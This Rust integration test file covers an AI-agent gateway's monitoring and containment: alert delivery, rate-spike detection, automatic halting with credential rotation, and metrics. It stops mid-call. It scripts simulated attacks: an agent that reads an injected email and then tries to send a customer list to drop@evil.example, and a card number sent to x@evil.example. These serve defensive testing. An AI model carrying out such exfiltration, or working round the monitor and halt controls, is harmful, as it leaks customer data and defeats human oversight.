//! Monitoring and containment against real peers: the monitor's alerts reach a webhook
//! receiver that checks the signature and an SMTP server (aiosmtpd, STARTTLS and AUTH); a rate
//! spike is judged against a learned baseline; an automatic halt cancels the agent's pending
//! approval and its call in flight and rotates its own credential, which the provider then
//! refuses; `/metrics` parses with the Prometheus reference parser.

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::harness::{BIN, Server, eventually};
use crate::notify::{Peer, lines, until};

const HOOK_SECRET: &str = "canary-MONITOR-HOOK-SECRET-91ab";
const SMTP_PASSWORD: &str = "canary-MONITOR-SMTP-PASSWORD-7c2d";
const SLACK_TOKEN: &str = "canary-MONITOR-SLACK-TOKEN-3e8a";
const MASTER: &str = "AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=";
const CRED_INITIAL: &str = "canary-AGENT-CREDENTIAL-0-5e1f";

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn python(dir: &str, script: &str, args: &[&str], envs: &[(&str, &str)]) -> (Peer, u16) {
    crate::notify::python_in(dir, script, args, envs)
}

fn cli(s: &Server, args: &[&str], stdin: Option<&str>) -> (i32, String, String) {
    crate::harness::cli_as(&s.base, &s.admin, args, stdin)
}

/// POSTs `body` to `url` as `token` in a task of its own (a call left in flight): its status,
/// body and how long it took.
fn in_background(
    http: &reqwest::Client,
    url: String,
    token: &str,
    body: Value,
) -> tokio::task::JoinHandle<(u16, String, Duration)> {
    let (http, token) = (http.clone(), token.to_owned());
    tokio::spawn(async move {
        let t = Instant::now();
        let r = http
            .post(url)
            .bearer_auth(token)
            .json(&body)
            .send()
            .await
            .unwrap();
        (r.status().as_u16(), r.text().await.unwrap(), t.elapsed())
    })
}

async fn alerts(s: &Server, query: &str) -> Vec<Value> {
    let (st, v) = s
        .request(&s.admin, "GET", &format!("/v1/admin/alerts?{query}"), None)
        .await;
    assert_eq!(st, 200, "{v}");
    v["alerts"].as_array().unwrap().clone()
}

/// An alert of `kind` (waits for the monitor, which reads the log as it is written).
async fn alert_of(s: &Server, kind: &str) -> Value {
    let mut found = Value::Null;
    eventually(&format!("a `{kind}` alert"), async || {
        found = alerts(s, "state=all")
            .await
            .into_iter()
            .find(|a| a["kind"] == kind)
            .unwrap_or(Value::Null);
        !found.is_null()
    })
    .await;
    found
}

fn monitor_quick(extra: &str) -> String {
    format!(
        r#"
[monitor]
warm_up_actions = 2
warm_up = "0s"
{extra}
"#
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_first_message_to_a_new_external_domain_alerts_a_webhook_and_a_mailbox() {
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join("hooks.jsonl");
    let mails = dir.path().join("mails.jsonl");
    let (ca_pem, cert, key) = crate::network::issued_for(dir.path(), "smtp", "DNS:localhost", None);
    let ca_file = dir.path().join("smtp-ca.pem");
    std::fs::write(&ca_file, &ca_pem).unwrap();
    let (cert_file, key_file) = (dir.path().join("smtp.crt"), dir.path().join("smtp.key"));
    std::fs::write(&cert_file, &cert).unwrap();
    std::fs::write(&key_file, &key).unwrap();
    let (_receiver, hook_port) = python(
        "notify",
        "receiver.py",
        &[hooks.to_str().unwrap()],
        &[("HOOK_SECRET", HOOK_SECRET)],
    );
    let (_smtp, smtp_port) = python(
        "notify",
        "smtp_server.py",
        &[
            mails.to_str().unwrap(),
            cert_file.to_str().unwrap(),
            key_file.to_str().unwrap(),
            "warden",
            SMTP_PASSWORD,
        ],
        &[],
    );
    // A SIEM stream that takes the alerts only.
    let (siem, siem_got, _) = crate::streaming::intake(None).await;
    let ca = ca_file.to_str().unwrap().to_owned();
    let s = Server::start_with_env(
        move |t| {
            t + &monitor_quick(
                r#"
[[monitor.route]]
kinds = ["new_domain"]
channels = ["secops-hook", "secops-mail", "secops-slack"]
"#,
            ) + &format!(
                r#"
[audit.streams.siem-alerts]
url = "{siem}"
events = ["alert.raised"]
batch = 5

[notify]
console_url = "http://127.0.0.1:1/console"
retry_base = "100ms"

[notify.channels.secops-hook]
type = "webhook"
url = "http://127.0.0.1:{hook_port}/hook"
secret = "{{{{env:HOOK_SECRET}}}}"

[notify.channels.secops-slack]
type = "slack"
url = "http://127.0.0.1:{hook_port}/slack?token={{{{env:SLACK_TOKEN}}}}"

[notify.channels.secops-mail]
type = "email"
server = "localhost:{smtp_port}"
from = "warden@groupany.example"
to = ["secops@groupany.example"]
username = "warden"
password = "{{{{env:SMTP_PASSWORD}}}}"
ca_file = "{ca}"
"#
            )
        },
        &[
            ("HOOK_SECRET", HOOK_SECRET),
            ("SMTP_PASSWORD", SMTP_PASSWORD),
            ("SLACK_TOKEN", SLACK_TOKEN),
        ],
    )
    .await;
    let bot = s.token("agent", "marketing-bot").await;
    let mail =
        |to: &str| json!({"to": to, "subject": "Spring offer", "body": "Hello from GroupAny"});
    // The baseline: two messages to a partner and one inside the company.
    for to in [
        "anna@partner.example",
        "ben@partner.example",
        "team@groupany.example",
    ] {
        let (st, v) = s.act(&bot, "email.send", mail(to), "m1").await;
        assert!(st == 200 || st == 202, "{st} {v}");
    }
    // Letters, case and display names do not make a known domain new.
    let (st, v) = s
        .act(
            &bot,
            "email.send",
            mail("Carl <carl@PARTNER.example>"),
            "m1",
        )
        .await;
    assert!(st == 200 || st == 202, "{st} {v}");
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert!(
        alerts(&s, "state=all").await.is_empty(),
        "no alert during the baseline"
    );

    // The first message to a domain the agent never wrote to.
    let (st, v) = s
        .act(&bot, "email.send", mail("x@new-domain.example"), "m1")
        .await;
    assert!(st == 200 || st == 202, "{st} {v}");
    let alert = alert_of(&s, "new_domain").await;
    assert_eq!(alert["agent"], "marketing-bot");
    assert_eq!(alert["severity"], "medium");
    assert_eq!(alert["state"], "open");
    assert!(
        alert["summary"]
            .as_str()
            .unwrap()
            .contains("new-domain.example")
    );
    // Its evidence is the record of the attempt.
    let seq = alert["evidence"][0].as_u64().unwrap();
    let rec = s.audit("event=action.received&agent=marketing-bot").await;
    let r = rec.iter().find(|r| r["seq"] == seq).unwrap();
    assert_eq!(r["tool"], "email.send");
    assert_eq!(
        r["output"]["recipients"]["domains"],
        json!(["new-domain.example"])
    );
    let raised = s.audit("event=alert.raised").await;
    assert_eq!(raised.len(), 1, "{raised:?}");
    assert_eq!(raised[0]["output"]["alert"], alert["id"]);

    // The webhook: signed, verified by the receiver, the alert and its evidence.
    let got = until(&hooks, "the alert webhook", |l| {
        l.iter().any(|e| e["path"] == "/hook")
    })
    .await;
    let hook = got.iter().find(|e| e["path"] == "/hook").unwrap();
    assert_eq!(hook["verified"], true, "{hook}");
    assert_eq!(hook["headers"]["warden-event"], "alert.raised");
    assert_eq!(hook["body"]["type"], "alert.raised");
    assert_eq!(hook["body"]["alerts"][0]["id"], alert["id"]);
    assert_eq!(hook["body"]["alerts"][0]["kind"], "new_domain");
    assert_eq!(hook["body"]["alerts"][0]["evidence"], json!([seq]));
    assert_eq!(hook["body"]["link"], "http://127.0.0.1:1/console/alerts");
    // Slack: the alert as a message (no buttons: there is nothing to approve).
    let got = until(&hooks, "the Slack message", |l| {
        l.iter()
            .any(|e| e["path"].as_str().is_some_and(|p| p.starts_with("/slack")))
    })
    .await;
    let slack = got
        .iter()
        .find(|e| e["path"].as_str().is_some_and(|p| p.starts_with("/slack")))
        .unwrap();
    let text = slack["body"]["blocks"][0]["text"]["text"].as_str().unwrap();
    assert!(
        text.contains("new_domain") && text.contains("new-domain.example"),
        "{text}"
    );
    assert_eq!(slack["body"]["blocks"].as_array().unwrap().len(), 1);
    // The mail: STARTTLS, AUTH, to the security team.
    let got = until(&mails, "the alert mail", |l| !l.is_empty()).await;
    assert_eq!(got[0]["tls"], true);
    assert_eq!(got[0]["auth"], true);
    assert_eq!(got[0]["rcpt_tos"], json!(["secops@groupany.example"]));
    let content = got[0]["content"].as_str().unwrap();
    assert!(
        content.contains("Subject: [Warden] MEDIUM alert:"),
        "{content}"
    );
    assert!(content.contains("new-domain.example"));
    // Both deliveries recorded, naming the alert.
    eventually("the three deliveries recorded", async || {
        s.audit("event=notification.sent")
            .await
            .iter()
            .filter(|r| r["output"]["alerts"] == json!([alert["id"]]))
            .count()
            == 3
    })
    .await;

    // The alerts-only SIEM stream got the alert, and nothing else.
    eventually("the alert reaches the SIEM", async || {
        !siem_got.lock().unwrap().is_empty()
    })
    .await;
    let streamed = siem_got.lock().unwrap().clone();
    assert!(
        streamed.iter().all(|r| r["event"] == "alert.raised"),
        "{streamed:#?}"
    );
    assert_eq!(streamed[0]["output"]["alert"], alert["id"]);

    // A second message there is not new: no second alert, nothing more sent.
    let (st, _) = s
        .act(&bot, "email.send", mail("y@new-domain.example"), "m1")
        .await;
    assert!(st == 200 || st == 202);
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(alerts(&s, "state=all").await.len(), 1);

    // Acknowledged and resolved from the command line; both recorded.
    let id = alert["id"].as_str().unwrap();
    let (code, out, err) = cli(&s, &["alerts", "ack", id], None);
    assert_eq!(code, 0, "{out}{err}");
    let (code, _, err) = cli(&s, &["alerts", "ack", id], None);
    assert_eq!(code, 5, "acknowledging twice is a conflict: {err}");
    let (code, out, err) = cli(&s, &["alerts", "list", "--json"], None);
    assert_eq!(code, 0, "{err}");
    let listed: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(listed["alerts"][0]["state"], "acknowledged");
    let (code, _, err) = cli(&s, &["alerts", "resolve", id, "--note", "  "], None);
    assert_eq!(code, 1, "a resolution needs a note: {err}");
    let (code, out, err) = cli(
        &s,
        &[
            "alerts",
            "resolve",
            id,
            "--note",
            "new partner, confirmed with marketing",
        ],
        None,
    );
    assert_eq!(code, 0, "{out}{err}");
    assert!(alerts(&s, "state=active").await.is_empty());
    assert_eq!(s.audit("event=alert.acknowledged").await.len(), 1);
    let resolved = s.audit("event=alert.resolved").await;
    assert_eq!(resolved[0]["actor"], "admin");
    assert_eq!(
        resolved[0]["output"]["note"],
        "new partner, confirmed with marketing"
    );
    // No credential anywhere it could leak.
    let log = std::fs::read_to_string(&s.log).unwrap();
    let db = std::fs::read(&s.db).unwrap();
    for canary in [HOOK_SECRET, SMTP_PASSWORD, SLACK_TOKEN] {
        assert!(!log.contains(canary));
        assert!(!db.windows(canary.len()).any(|w| w == canary.as_bytes()));
    }
    // What receivers get: the webhook's secret only as its signature (Slack's URL is its
    // credential, so its receiver sees that token, and no other).
    for canary in [HOOK_SECRET, SMTP_PASSWORD] {
        assert!(!lines(&hooks).iter().any(|e| e.to_string().contains(canary)));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rate_spike_is_judged_against_the_agents_learned_baseline() {
    let s = Server::start_with(|t| {
        t + &monitor_quick(
            r#"
[monitor.detectors.rate_spike]
window = "250ms"
min = 12
threshold = 4
"#,
        )
    })
    .await;
    let bot = s.token("agent", "support-bot").await;
    let read = json!({"customer_id": "C1182"});
    // The usual pace: one read per window for four seconds (the baseline needs ten windows).
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(4) {
        let (st, v) = s.act(&bot, "crm.get_customer", read.clone(), "r1").await;
        assert_eq!(st, 200, "{v}");
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    tokio::time::sleep(Duration::from_millis(600)).await;
    assert!(
        !alerts(&s, "state=all")
            .await
            .iter()
            .any(|a| a["kind"] == "rate_spike"),
        "the usual pace is not a spike"
    );
    // Thirty at once, far above the baseline.
    let calls = (0..30).map(|_| s.act(&bot, "crm.get_customer", read.clone(), "r1"));
    for (st, v) in futures_util::future::join_all(calls).await {
        assert!(st == 200 || st == 429, "{st} {v}");
    }
    let alert = alert_of(&s, "rate_spike").await;
    assert_eq!(alert["agent"], "support-bot");
    assert_eq!(alert["severity"], "high");
    let detail = &alert["detail"];
    assert!(detail["observed"].as_f64().unwrap() > detail["limit"].as_f64().unwrap());
    assert!(detail["baseline"].as_f64().unwrap() < 3.0, "{detail}");

    // The console: every operator sees it; an administrator acknowledges and resolves it.
    let id = alert["id"].as_str().unwrap();
    let fiona = s.token("operator", "fiona").await;
    let mut f = crate::console::Browser::new(&s.base);
    assert_eq!(f.sign_in(&fiona).await.status, 303);
    let page = f.get("/console/alerts").await;
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("rate_spike") && page.body.contains(id),
        "{}",
        page.body
    );
    assert!(
        !page.body.contains(">Acknowledge<"),
        "not for a non-administrator"
    );
    let mut a = crate::console::Browser::new(&s.base);
    assert_eq!(a.sign_in(&s.admin).await.status, 303);
    let page = a.get(&format!("/console/alerts/{id}")).await;
    assert_eq!(page.status, 200);
    let seq = alert["evidence"][0].as_u64().unwrap();
    assert!(
        page.body.contains(&format!("/console/audit/{seq}")),
        "{}",
        page.body
    );
    let csrf = page.field("csrf");
    let origin = s.base.clone();
    let done = a
        .post(
            &format!("/console/alerts/{id}/acknowledge"),
            &[("csrf", &csrf)],
            Some(&origin),
        )
        .await;
    assert_eq!(done.status, 303);
    // Without the form's token nothing changes.
    let refused = a
        .post(
            &format!("/console/alerts/{id}/resolve"),
            &[("note", "x")],
            Some(&origin),
        )
        .await;
    assert_eq!(refused.status, 403);
    let done = a
        .post(
            &format!("/console/alerts/{id}/resolve"),
            &[("csrf", &csrf), ("note", "load test by the support team")],
            Some(&origin),
        )
        .await;
    assert_eq!(done.status, 303, "{}", done.body);
    let page = a.get(&format!("/console/alerts/{id}")).await;
    assert!(page.body.contains("load test by the support team"));
    let resolved = s.audit("event=alert.resolved").await;
    assert_eq!(resolved[0]["output"]["alert"], id);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_automatic_halt_cancels_approvals_and_calls_and_rotates_the_agents_credential() {
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("cred.jsonl");
    let (_cred, port) = python(
        "monitor",
        "credential_service.py",
        &[events.to_str().unwrap()],
        &[("CRED_INITIAL", CRED_INITIAL)],
    );
    let cred_url = format!("http://127.0.0.1:{port}");
    let hook = format!("{cred_url}/hook");
    let upstream = cred_url.clone();
    let s = Server::start_with_env(
        move |t| {
            let t: String = t
                .lines()
                .map(|l| {
                    if l.contains("/tools/crm.get_customer\"") {
                        r#"connector = { type = "http", upstream = "cred", path = "/tools/crm.get_customer", headers = { Authorization = "Bearer {{secret:support_crm}}" }, timeout = "5s" }"#.to_owned()
                    } else if l.contains("/tools/crm.update_contact\"") {
                        r#"connector = { type = "http", upstream = "cred", path = "/tools/slow", headers = { Authorization = "Bearer {{secret:support_crm}}" }, timeout = "60s" }"#.to_owned()
                    } else {
                        l.to_owned()
                    }
                })
                .collect::<Vec<_>>()
                .join("\n");
            t + &format!(
                r#"
[upstreams.cred]
url = "{upstream}"

[vault.rotate.support_crm]
every = "30d"
url = "{hook}"
revoke_url = "{hook}"
"#
            ) + &monitor_quick(
                r#"
[[monitor.halt]]
kinds = ["exfiltration_attempt"]
"#,
            )
        },
        &[("WARDEN_MASTER_KEY", MASTER)],
    )
    .await;
    let (code, out, err) = cli(
        &s,
        &[
            "secrets",
            "put",
            "support_crm",
            "--from-stdin",
            "--agent",
            "support-bot",
        ],
        Some(CRED_INITIAL),
    );
    assert_eq!(code, 0, "{out}{err}");
    let bot = s.token("agent", "support-bot").await;
    // A call in flight (before the run read anything): the provider keeps it waiting.
    let slow = in_background(
        &s.http,
        format!("{}/v1/actions", s.base),
        &bot,
        json!({"tool": "crm.update_contact", "arguments": {"customer_id": "C1182"}, "session": "run"}),
    );
    let t = Instant::now();
    while !lines(&events).iter().any(|e| e["path"] == "/tools/slow") {
        assert!(
            !slow.is_finished(),
            "the slow call ended early: {:?}",
            slow.await
        );
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "the slow call never reached the provider"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let (st, v) = s
        .act(
            &bot,
            "crm.get_customer",
            json!({"customer_id": "C1182"}),
            "run",
        )
        .await;
    assert_eq!(st, 200, "the credential works: {v}");

    // The agent reads an e-mail carrying an injection, then tries to write outside.
    let (st, v) = s
        .act(&bot, "email.read_inbox", json!({"limit": 5}), "run")
        .await;
    assert_eq!(st, 200, "{v}");
    let injection = alert_of(&s, "injection").await;
    assert_eq!(injection["agent"], "support-bot");
    let (st, v) = s
        .act(
            &bot,
            "email.send",
            json!({"to": "drop@evil.example", "subject": "export", "body": "customer list"}),
            "run",
        )
        .await;
    assert_eq!(st, 202, "held for a human: {v}");
    let held = v["approval_id"].as_str().unwrap().to_owned();

    // The monitor sees an exfiltration attempt and the rule halts the agent.
    let alert = alert_of(&s, "exfiltration_attempt").await;
    assert_eq!(alert["severity"], "critical");
    assert_eq!(alert["evidence"].as_array().unwrap().len(), 2);
    eventually("the agent is halted", async || {
        let (_, v) = s.request(&s.admin, "GET", "/v1/admin/agents", None).await;
        v.as_array()
            .unwrap()
            .iter()
            .any(|a| a["id"] == "support-bot" && a["status"] == "halted")
    })
    .await;
    let halted = s.audit("event=agent.halted&agent=support-bot").await;
    assert_eq!(halted[0]["actor"], "monitor");
    assert!(
        halted[0]["description"]
            .as_str()
            .unwrap()
            .contains(alert["id"].as_str().unwrap())
    );
    eventually("the alert says it halted the agent", async || {
        alerts(&s, "state=all")
            .await
            .iter()
            .any(|a| a["kind"] == "exfiltration_attempt" && a["halted"] == true)
    })
    .await;

    // Its pending approval was cancelled.
    let (_, a) = s
        .request(
            &s.admin,
            "GET",
            &format!("/v1/admin/approvals/{held}"),
            None,
        )
        .await;
    assert_eq!(a["state"], "cancelled", "{a}");
    // Its call in flight was cancelled (not left to run its 30 s), and recorded so.
    let (st, v, took) = slow.await.unwrap();
    let v: Value = serde_json::from_str(&v).unwrap();
    assert!(
        took < Duration::from_secs(20),
        "cancelled at once: {took:?}"
    );
    assert_eq!(st, 409, "{v}");
    assert_eq!(v["code"], "cancelled", "{v}");
    let cancelled = s.audit("event=action.cancelled&agent=support-bot").await;
    assert!(
        cancelled[0]["description"]
            .as_str()
            .unwrap()
            .contains("was halted"),
        "{cancelled:?}"
    );
    // Its own credential was rotated and the old value revoked at the provider: the provider
    // now refuses it.
    let got = until(&events, "rotated and revoked", |l| {
        l.iter().any(|e| e["event"] == "rotate") && l.iter().any(|e| e["event"] == "revoke")
    })
    .await;
    let revoked = got.iter().find(|e| e["event"] == "revoke").unwrap();
    assert_eq!(revoked["value"], CRED_INITIAL);
    let r = s
        .http
        .post(format!("{cred_url}/tools/crm.get_customer"))
        .bearer_auth(CRED_INITIAL)
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 401, "the old credential is dead");
    // The agent is refused, and its token still trying is an alert of its own.
    let (st, v) = s
        .act(
            &bot,
            "crm.get_customer",
            json!({"customer_id": "C1182"}),
            "run",
        )
        .await;
    assert_eq!(st, 403, "{v}");
    assert_eq!(v["code"], "agent_halted");
    alert_of(&s, "halted_agent_activity").await;
    // Resumed, it works with the new credential.
    let (code, _, err) = cli(&s, &["resume", "support-bot"], None);
    assert_eq!(code, 0, "{err}");
    let (st, v) = s
        .act(
            &bot,
            "crm.get_customer",
            json!({"customer_id": "C1182"}),
            "run2",
        )
        .await;
    assert_eq!(st, 200, "the rotated credential works: {v}");
    // No credential value anywhere it could leak.
    let log = std::fs::read_to_string(&s.log).unwrap();
    let db = std::fs::read(&s.db).unwrap();
    let rotated = got.iter().find(|e| e["event"] == "rotate").unwrap()["to"]
        .as_str()
        .unwrap()
        .to_owned();
    for canary in [CRED_INITIAL, rotated.as_str()] {
        assert!(!log.contains(canary), "{canary} in the log");
        assert!(!db.windows(canary.len()).any(|w| w == canary.as_bytes()));
        let all = s.audit("limit=10000").await;
        assert!(!all.iter().any(|r| r.to_string().contains(canary)));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_parse_with_the_prometheus_parser_and_hold_every_family() {
    let s = Server::start().await;
    let bot = s.token("agent", "support-bot").await;
    let op = s.token("operator", "fiona").await;
    let (st, _) = s
        .act(
            &bot,
            "crm.get_customer",
            json!({"customer_id": "C1182"}),
            "x",
        )
        .await;
    assert_eq!(st, 200);
    // A tool name that is not configured is `unknown`: no agent-chosen string is a label.
    let (st, _) = s.act(&bot, "bob@example.net<script>", json!({}), "x").await;
    assert_eq!(st, 404);
    let (st, _) = s
        .act(
            &bot,
            "email.send",
            json!({"to": "x@evil.example", "subject": "s", "body": "card 4111 1111 1111 1111"}),
            "x",
        )
        .await;
    assert_eq!(st, 403);
    // Two refunds of one charge, one of another: the running total's largest is 70.
    for (charge, amount) in [("ch_metric1", 30), ("ch_metric1", 40), ("ch_metric2", 50)] {
        let (st, v) = s
            .act(
                &bot,
                "payments.refund",
                json!({"charge_id": charge, "amount": amount}),
                "x",
            )
            .await;
        assert!(st == 200 || st == 202, "a held refund counts too: {v}");
    }
    // Without a token: refused.
    let r = s
        .http
        .get(format!("{}/metrics", s.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
    let r = s
        .http
        .get(format!("{}/metrics", s.base))
        .bearer_auth(&op)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/plain; version=0.0.4")
    );
    let text = r.text().await.unwrap();
    assert!(
        !text.contains("bob@example.net") && !text.contains("4111"),
        "{text}"
    );
    let mut child = Command::new(root().join(".venv-test/bin/python"))
        .arg(root().join("crates/warden/tests/monitor/parse_metrics.py"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}\n{text}",
        String::from_utf8_lossy(&out.stderr)
    );
    let families: Value = serde_json::from_slice(&out.stdout).unwrap();
    for (name, kind) in [
        ("warden_requests", "counter"),
        ("warden_request_duration_seconds", "histogram"),
        ("warden_decision_duration_seconds", "histogram"),
        ("warden_stage_duration_seconds", "histogram"),
        ("warden_store_commit_duration_seconds", "histogram"),
        ("warden_store_transactions", "counter"),
        ("warden_pending_approvals", "gauge"),
        ("warden_agent_halted", "gauge"),
        ("warden_budget_used_ratio", "gauge"),
        ("warden_alerts", "counter"),
        ("warden_alerts_open", "gauge"),
        ("warden_audit_records", "gauge"),
        ("warden_audit_stream_lag_records", "gauge"),
        ("warden_store_up", "gauge"),
        ("warden_change_feed_up", "gauge"),
        ("warden_halt_propagation_seconds", "histogram"),
        ("warden_total_max", "gauge"),
        ("warden_monitor_lag_records", "gauge"),
        ("warden_otlp_spans", "counter"),
    ] {
        assert_eq!(families[name]["type"], kind, "{name}: {}", families[name]);
    }
    let requests = families["warden_requests"]["samples"].as_array().unwrap();
    let find = |tool: &str, outcome: &str| {
        requests.iter().find(|s| {
            s["labels"]["tool"] == tool
                && s["labels"]["outcome"] == outcome
                && s["labels"]["agent"] == "support-bot"
                && s["labels"]["surface"] == "actions"
        })
    };
    assert_eq!(find("crm.get_customer", "executed").unwrap()["value"], 1.0);
    assert_eq!(
        find("unknown", "refused").unwrap()["labels"]["code"],
        "unknown_tool"
    );
    assert_eq!(
        find("email.send", "refused").unwrap()["labels"]["code"],
        "denied"
    );
    let totals = families["warden_total_max"]["samples"].as_array().unwrap();
    let refunds = totals
        .iter()
        .find(|t| {
            t["labels"]["tool"] == "payments.refund"
                && t["labels"]["agent"] == "support-bot"
                && t["labels"]["total"] == "per_charge"
        })
        .unwrap();
    assert_eq!(
        refunds["value"], 70.0,
        "the largest charge's sum, not the values: {totals:?}"
    );
    // The three refunds were one run's (split by the run: `in_run`), never naming the run.
    let in_run = totals
        .iter()
        .find(|t| t["labels"]["tool"] == "payments.refund" && t["labels"]["total"] == "in_run")
        .unwrap();
    assert_eq!(in_run["value"], 3.0, "{totals:?}");
    assert!(
        !text.match_indices("run_").any(|(i, _)| text[i + 4..]
            .bytes()
            .take(32)
            .filter(u8::is_ascii_hexdigit)
            .count()
            == 32),
        "a run id in the metrics"
    );
    assert!(!text.contains("METRIC1") && !text.contains("ch_metric"));
    let store_up = &families["warden_store_up"]["samples"][0]["value"];
    assert_eq!(store_up, 1.0);
    // The support team's monthly budget is in its period, unused.
    let budget = families["warden_budget_used_ratio"]["samples"]
        .as_array()
        .unwrap();
    assert!(
        budget.iter().any(|b| b["labels"]["scope"] == "role:support"
            && b["labels"]["period"] == "monthly"
            && b["labels"]["unit"] == "usd"),
        "{budget:?}"
    );
    // Histograms: the +Inf bucket equals the count.
    let decision = families["warden_decision_duration_seconds"]["samples"]
        .as_array()
        .unwrap();
    let inf = decision
        .iter()
        .find(|s| s["labels"]["le"] == "+Inf")
        .unwrap()["value"]
        .as_f64()
        .unwrap();
    let count = decision
        .iter()
        .find(|s| s["name"] == "warden_decision_duration_seconds_count")
        .unwrap()["value"]
        .as_f64()
        .unwrap();
    assert_eq!(inf, count);
    assert!(count >= 2.0);
    // Group commit: at least one transaction, and never more than the writes it committed.
    let writes = families["warden_store_commit_duration_seconds"]["samples"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "warden_store_commit_duration_seconds_count")
        .unwrap()["value"]
        .as_f64()
        .unwrap();
    let transactions = families["warden_store_transactions"]["samples"][0]["value"]
        .as_f64()
        .unwrap();
    assert!(
        transactions >= 1.0 && transactions <= writes,
        "{transactions} transactions for {writes} writes"
    );
    // Each executed action passed every stage once; the refused ones stopped before the
    // upstream, so the stages before it counted more.
    let stages = families["warden_stage_duration_seconds"]["samples"]
        .as_array()
        .unwrap();
    let stage_count = |stage: &str| {
        stages
            .iter()
            .find(|s| {
                s["name"] == "warden_stage_duration_seconds_count" && s["labels"]["stage"] == stage
            })
            .unwrap_or_else(|| panic!("no count for stage {stage}"))["value"]
            .as_f64()
            .unwrap()
    };
    let executed = stage_count("upstream");
    assert!(executed >= 1.0);
    for stage in ["inspect_result", "commit_result"] {
        assert_eq!(stage_count(stage), executed, "{stage}");
    }
    // Reads commit their intent with their result (`audit.read_intent = "with_result"`).
    assert!(stage_count("commit_intent") <= executed);
    for stage in ["run", "inspect", "checks", "decide"] {
        assert!(stage_count(stage) > executed, "{stage}");
    }
    // /readyz says the store and the change feed are live.
    let (st, v) = s.request("", "GET", "/readyz", None).await;
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["change_feed"], "local");
}

/// Two processes on one PostgreSQL database: a halt through one cancels the agent's call in
/// flight on the other; `warden drill halt` measures both, passes within a second and is
/// recorded; one monitor runs (the lease): an alert is raised once, not once per process.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_halt_reaches_the_other_process_and_the_drill_measures_it() {
    let pg = crate::harness::postgres_schema("drill");
    let env = [("WARDEN_POSTGRES", pg.as_str())];
    let a = Server::start_with_env(
        |t| {
            let t: String = t
                .lines()
                .map(|l| {
                    if l.contains("/tools/crm.update_contact\"") {
                        r#"connector = { type = "http", upstream = "groupany", path = "/fault/slow", headers = { Authorization = "Bearer {{env:GROUPANY_API_KEY}}" }, timeout = "60s" }"#.to_owned()
                    } else {
                        l.to_owned()
                    }
                })
                .collect::<Vec<_>>()
                .join("\n");
            t + &monitor_quick("")
        },
        &env,
    )
    .await;
    // B starts while A is appending (a replica restarting while the others serve): its check
    // of the shared log at start must not take A's appends for tampering.
    let dev = a.token("agent", "dev-bot").await;
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flood = {
        let (http, url, stop) = (
            a.http.clone(),
            format!("{}/v1/actions", a.base),
            stop.clone(),
        );
        tokio::spawn(async move {
            let mut n = 0u32;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                n += 1;
                let _ = http
                    .post(&url)
                    .bearer_auth(&dev)
                    .json(&json!({"tool": "repo.create_issue", "arguments": {"repo": "r", "title": "t"}, "session": "f"}))
                    .send()
                    .await;
            }
            n
        })
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
    let log_b = a.db.with_file_name("b.log");
    let (mut child_b, base_b) =
        crate::harness::spawn_serve_with(&a.config, &a.db, &log_b, &a.upstream_url, &env);
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    assert!(flood.await.unwrap() > 5, "A was busy while B started");
    let bot = a.token("agent", "support-bot").await;
    crate::harness::token_known_at(&a.http, &base_b, &bot).await;

    // A call in flight on B.
    let slow = in_background(
        &a.http,
        format!("{base_b}/v1/actions"),
        &bot,
        json!({"tool": "crm.update_contact", "arguments": {"customer_id": "C1182"}, "session": "s"}),
    );
    // The upstream holds it for 30 s (`/fault/slow` records no call: give it time to start).
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(!slow.is_finished(), "ended early: {:?}", slow.await);
    // Halted through A: B cancels its call.
    let (st, v) = a
        .request(
            &a.admin,
            "POST",
            "/v1/admin/agents/support-bot/halt",
            Some(json!({"reason": "containment test"})),
        )
        .await;
    assert_eq!(st, 200, "{v}");
    let (st, v, took) = slow.await.unwrap();
    let v: Value = serde_json::from_str(&v).unwrap();
    assert_eq!(st, 409, "{v}");
    assert_eq!(v["code"], "cancelled");
    assert!(took < Duration::from_secs(10), "{took:?}");
    let cancelled = a.audit("event=action.cancelled&agent=support-bot").await;
    assert!(
        cancelled[0]["description"]
            .as_str()
            .unwrap()
            .contains("was halted")
    );
    let (st, _) = a
        .request(
            &a.admin,
            "POST",
            "/v1/admin/agents/support-bot/resume",
            None,
        )
        .await;
    assert_eq!(st, 200);

    // The drill: through A, measured on A and B, five times.
    let out = Command::new(BIN)
        .args([
